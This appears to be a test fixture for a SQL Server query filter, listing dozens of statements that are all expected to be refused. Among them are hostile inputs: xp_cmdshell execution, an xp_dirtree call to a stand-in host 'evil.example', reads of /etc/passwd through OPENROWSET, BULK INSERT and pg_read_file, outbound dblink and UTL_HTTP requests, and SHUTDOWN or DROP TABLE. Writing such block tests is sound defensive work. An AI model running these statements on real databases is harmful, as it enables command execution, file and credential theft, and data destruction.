-- What works against a real SQL Server.
-- expect: refused
EXEC xp_cmdshell 'id'
-- expect: refused
xp_cmdshell 'id'
-- expect: refused
EXECUTE AS USER = 'sa'
-- expect: refused
EXEC sp_executesql N'SELECT 1'
-- expect: refused
EXEC('DROP TABLE x')
-- expect: refused
EXEC master..xp_dirtree '\\evil.example\share'
-- expect: refused
EXEC sp_configure 'show advanced options', 1
-- expect: refused
{{call sp_help}}
-- expect: refused
SELECT * FROM OPENROWSET(BULK '/etc/passwd', SINGLE_CLOB) AS x
-- expect: refused
SELECT * FROM OPENROWSET('SQLNCLI', 'Server=x;', 'SELECT 1')
-- expect: refused
SELECT * FROM OPENQUERY(srv, 'SELECT 1')
-- expect: refused
SELECT * FROM OPENDATASOURCE('SQLNCLI', 'Data Source=x').db.dbo.t
-- expect: refused
SELECT * FROM OPENJSON('[1]')
-- expect: refused
SELECT * FROM OPENXML(1, '/a')
-- expect: refused
BULK INSERT {Q} FROM '/etc/passwd'
-- expect: refused
WAITFOR DELAY '00:00:30'
-- expect: refused
SELECT 1; WAITFOR DELAY '00:00:30'
-- expect: refused
SELECT 1 WAITFOR DELAY '00:00:30'
-- expect: refused
DECLARE @x INT = 1
-- expect: refused
DECLARE @x INT; SELECT @x
-- expect: refused
SELECT @x
-- expect: refused
SELECT @@VERSION
-- expect: refused
SELECT @@SERVERNAME
-- expect: refused
SELECT @x = Name FROM {A}
-- expect: refused
SET @x = 1
-- expect: refused
IF 1 = 1 DROP TABLE x
-- expect: refused
IF EXISTS (SELECT 1) SELECT 2 ELSE SELECT 3
-- expect: refused
WHILE 1 = 1 SELECT 1
-- expect: refused
BEGIN TRY SELECT 1 END TRY BEGIN CATCH SELECT 2 END CATCH
-- expect: refused
PRINT 'x'
-- expect: refused
RAISERROR('x', 16, 1)
-- expect: refused
THROW 50000, 'x', 1
-- expect: refused
SHUTDOWN WITH NOWAIT
-- expect: refused
KILL 1
-- expect: refused
DBCC CHECKDB
-- expect: refused
BACKUP DATABASE x TO DISK = '/tmp/x'
-- expect: refused
RECONFIGURE
-- expect: refused
USE master
-- expect: refused
SELECT 1
GO
DROP TABLE x
-- expect: refused
SELECT * FROM [srv].[CRM_System].[Salesforce].[Account]
-- expect: refused
SELECT * FROM srv.CRM_System..Account
-- expect: refused
SELECT * FROM #tmp
-- expect: refused
SELECT * FROM ##global
-- expect: refused
SELECT * FROM sys.dm_exec_requests
-- expect: refused
SELECT * FROM sys.configurations
-- expect: refused
SELECT * FROM {A} FOR XML AUTO
-- expect: refused
SELECT * FROM {A} FOR JSON PATH
-- expect: refused
SELECT SUSER_SNAME()
-- expect: refused
SELECT DB_NAME()
-- expect: refused
SELECT HOST_NAME()
-- expect: refused
SELECT SERVERPROPERTY('MachineName')
-- expect: refused
SELECT OBJECT_DEFINITION(1)
-- expect: refused
SELECT LOAD_FILE('/etc/passwd')
-- expect: refused
SELECT pg_read_file('/etc/passwd')
-- expect: refused
SELECT lo_import('/etc/passwd')
-- expect: refused
SELECT dblink('host=x', 'SELECT 1')
-- expect: refused
SELECT UTL_HTTP.REQUEST('http://example.com')
-- expect: refused
SELECT * FROM {A} OPTION (MAXDOP 1)
